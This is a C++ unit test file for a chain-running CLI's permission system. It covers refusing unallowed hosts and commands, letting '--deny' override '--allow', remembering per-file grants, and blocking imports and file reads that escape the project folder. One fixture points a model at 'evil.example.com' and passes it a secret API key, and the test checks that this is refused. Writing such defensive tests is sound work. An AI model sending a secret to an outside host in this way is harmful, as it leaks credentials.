// `chain plan`, `chain allow`, and what `chain run` refuses.
#include <sys/stat.h>

#include <catch2/catch.hpp>
#include <fstream>

#include "tests/peers/peer.h"
#include "tests/unit/cli/place.h"

namespace {

using chain::testing::check_ended;
using chain::testing::Ended;
using chain::testing::Place;

/// Says what it needs, one thing a line, and has a chain that needs nothing.
constexpr std::string_view kNeeds =
    R"(tool pager(id: string) -> bool writes = http.post("https://pager.example.com/{{ id }}")

tool words(folder: string) -> int reads = command("wc", "-w", folder)

chain main(id: string = "7") -> bool {
  let count = words("docs")
  return if count > 1 { pager(id) } else { false }
}

chain greet(name: string = "Ada") -> string {
  return "Hello {{ name }}"
}
)";

}  // namespace

TEST_CASE("a run that needs what is not allowed is refused before it begins, at the lines that need it") {
  const Place place;
  place.file("desk.chain", kNeeds);
  check_ended(place.chain({"run", "desk.chain:main"}), 4,
              {"desk.chain:1:51: error[E0701]: tool `pager` calls `pager.example.com`, which is not allowed",
               "`chain allow desk.chain` allows all that the file needs",
               "`--allow host=pager.example.com` this for one run",
               "desk.chain:3:51: error[E0701]: tool `words` runs `wc -w *`", "--allow 'command=wc -w *'",
               "2 errors"});
  // A chain that does not reach them needs nothing.
  const Ended greeted = place.chain({"run", "desk.chain:greet"});
  check_ended(greeted, 0, {});
  CHECK(greeted.out == "Hello Ada\n");
  // From the artifact of the run before as well.
  check_ended(place.chain({"run", "desk.chain:main"}), 4, {"E0701"});
}

TEST_CASE("--allow allows one run what it names, and --deny wins") {
  const Place place;
  place.file("desk.chain", kNeeds);
  check_ended(place.chain({"run", "desk.chain:main", "--allow", "host=pager.example.com"}), 4, {"wc -w"});
  // Past the permissions: the tool itself is not here yet.
  check_ended(
      place.chain({"run", "desk.chain:main", "--allow", "host=*.example.com", "--allow", "command=wc"}), 1,
      {"tool_failed: tool `words`", "wc: docs"});
  check_ended(place.chain({"run", "desk.chain:main", "--allow", "host=*", "--allow", "command=*", "--deny",
                           "command=wc"}),
              4, {"error[E0702]: tool `words` runs `wc -w *`, which `--deny command=wc` forbids"});
  check_ended(place.chain({"run", "desk.chain:main", "--allow", "hosts=x"}), 2, {"KIND=VALUE"});
}

TEST_CASE("chain allow shows what a file needs and remembers it, until the file needs more") {
  const Place place;
  place.file("desk.chain", kNeeds);
  check_ended(place.chain({"allow", "desk.chain"}), 2, {"+ host     pager.example.com", "`--yes` says yes"});
  check_ended(place.chain({"run", "desk.chain:main"}), 4, {"E0701"});
  check_ended(place.chain({"allow", "desk.chain", "--yes"}), 0, {"+ command  wc -w *", "allowed"});
  check_ended(place.chain({"run", "desk.chain:main"}), 1, {"tool_failed: tool `words`"});
  check_ended(place.chain({"allow", "desk.chain", "--yes"}), 0, {"is allowed what it needs already"});
  check_ended(place.chain({"run", "desk.chain:main", "--deny", "host=pager.example.com"}), 4, {"E0702"});
  CHECK(place.chain({"allow", "--list"}).out.find("host=pager.example.com") != std::string::npos);

  // The same file with one more need asks again, and says which is new.
  std::string more(kNeeds);
  more.replace(more.find("https://pager"), 13, "https://other");
  place.file("desk.chain", more);
  check_ended(place.chain({"run", "desk.chain:main"}), 4,
              {"`other.example.com`, which is not allowed; it is new since the file was allowed"});
  const Ended shown = place.chain({"allow", "desk.chain", "--yes"});
  check_ended(shown, 0, {"+ host     other.example.com", "    command  wc -w *"});
  check_ended(place.chain({"allow", "desk.chain", "--revoke"}), 0, {"no longer allowed"});
  check_ended(place.chain({"run", "desk.chain:main"}), 4, {"E0701"});
}

TEST_CASE("another file is not allowed what one was") {
  const Place place;
  place.file("desk.chain", kNeeds);
  place.file("copy.chain", kNeeds);
  check_ended(place.chain({"allow", "desk.chain", "--yes"}), 0, {});
  check_ended(place.chain({"run", "copy.chain:main"}), 4, {"E0701"});
}

TEST_CASE("a file cannot grant itself anything") {
  const Place place;
  place.file("desk.chain", kNeeds);
  check_ended(place.chain({"allow", "desk.chain", "--yes"}), 0, {});
  // Whoever can write the grants can grant; nobody else's folder counts.
  auto command = place.command({"run", "desk.chain:main"});
  command.environment.emplace_back("CHAIN_CONFIG_DIR", (place.path() / "elsewhere").string());
  check_ended(chain::testing::run(command), 4, {"E0701"});
}

TEST_CASE("models need nothing where they usually are, and are asked about elsewhere") {
  const Place place;
  place.file("far.chain",
             R"(model far = openai("m", base_url: "https://evil.example.com/v1", api_key: secret("OTHER_KEY"))

prompt ask(text: string) -> string {
  model: far
  user: "{{ text }}"
}

chain main(text: string = "hi") -> string {
  return ask(text)
}
)");
  check_ended(place.chain({"run", "far.chain"}), 4,
              {"far.chain:1:7: error[E0701]: model `far` calls `evil.example.com`",
               "model `far` reads the environment variable `OTHER_KEY`"});
  // The user names another model: what the file says of it does not count.
  check_ended(place.chain({"run", "far.chain", "--model", "far=baseline"}), 0, {});
}

TEST_CASE("imports of other folders have to be allowed to run, not to check") {
  const Place place;
  place.file("chain.lock", "");
  std::filesystem::create_directory(place.path() / "project");
  place.file("project/chain.lock", "");
  place.file("shared.chain", "const NAME = \"Ada\"\n");
  place.file("project/main.chain",
             "import \"../shared.chain\" as shared\n\nchain main() -> string {\n  return shared.NAME\n}\n");
  check_ended(place.chain({"check", "project/main.chain"}), 0, {});
  check_ended(place.chain({"run", "project/main.chain"}), 4,
              {"project/main.chain:1:8: error[E0701]: this import reads `", "/shared.chain`"});
  check_ended(place.chain({"run", "project/main.chain", "--allow", "read=shared.chain"}), 0, {});
  // A link within the project that leads out of it changes nothing.
  std::filesystem::create_symlink("../shared.chain", place.path() / "project/inside.chain");
  place.file("project/main.chain",
             "import \"./inside.chain\" as shared\n\nchain main() -> string {\n  return shared.NAME\n}\n");
  check_ended(place.chain({"run", "project/main.chain"}), 4, {"this import reads `"});
}

TEST_CASE("an import waits for no pipe") {
  const Place place;
  place.file("chain.lock", "");
  REQUIRE(mkfifo((place.path() / "pipe.chain").c_str(), 0600) == 0);
  place.file("main.chain", "import \"./pipe.chain\" as pipe\n\nchain main() -> int {\n  return 1\n}\n");
  check_ended(place.chain({"check", "main.chain"}), 3, {"E0107", "main.chain:1:8", "cannot read"});
}

TEST_CASE("a plan as JSON has what the text has") {
  const Place place;
  place.file("desk.chain", kNeeds);
  const Ended plan = place.chain({"plan", "desk.chain:main", "--json"});
  check_ended(plan, 0, {});
  for (const char* part :
       {"\"kind\": \"host\"", "\"value\": \"pager.example.com\"", "\"verdict\": \"not allowed\"",
        "\"line\": 1", "\"name\": \"pager\"", "\"bound\": 1", "\"model_requests\": 0",
        "\"decides\": \"whether it is called\"", "what tool `words` answers is untrusted"}) {
    INFO(part << " in\n" << plan.out);
    CHECK(plan.out.find(part) != std::string::npos);
  }
  check_ended(place.chain({"plan", "desk.chain:mian"}), 2, {"did you mean `main`?"});
}

TEST_CASE("media are read in the project's folder, where --deny does not forbid it, and sent") {
  const Place place;
  const chain::test::MockOpenAi mock;
  place.file("see.chain", "model eyes = compatible(\"x\", base_url: \"" + mock.base_url() + R"(")

prompt describe(paper: file) -> string {
  model: eyes
  user: "What says {{ paper }}?"
}

chain main(path: string = "notes/a.txt") -> string {
  return describe(file(path))
}
)");
  std::filesystem::create_directories(place.path() / "notes");
  place.file("notes/a.txt", "hello");
  const Ended ran = place.chain({"run", "see.chain", "--verbose"});
  check_ended(ran, 0, {"data:text/plain;base64,[5 bytes, sha256 2cf24dba"});
  CHECK(ran.out == "echo: What says ?\n");
  CHECK(mock.get("/last").find("data:text/plain;base64,aGVsbG8=") != std::string::npos);
  check_ended(place.chain({"run", "see.chain", "-a", "path=none.txt"}), 1,
              {"not_found: the file `none.txt` is not there"});
  check_ended(place.chain({"run", "see.chain", "-a", "path=/etc/hostname"}), 1,
              {"invalid_value: the file `/etc/hostname` lies outside of the project's folder"});
  check_ended(place.chain({"run", "see.chain", "--deny", "read=notes"}), 1,
              {"denied: `notes/a.txt` may not be read"});
}
